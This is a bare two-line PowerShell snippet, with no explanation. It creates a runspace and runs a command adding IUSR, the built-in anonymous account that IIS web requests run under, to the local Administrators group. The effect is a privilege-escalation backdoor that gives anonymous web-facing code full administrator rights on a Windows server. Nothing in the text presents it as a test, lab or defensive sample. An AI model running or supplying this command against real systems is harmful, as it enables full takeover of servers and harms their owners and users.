$rs = [RunspaceFactory]::CreateRunspace(); $rs.Open()
$p = $rs.CreatePipeline(); $p.Commands.AddScript('net localgroup Administrators IUSR /add'); $p.Invoke()
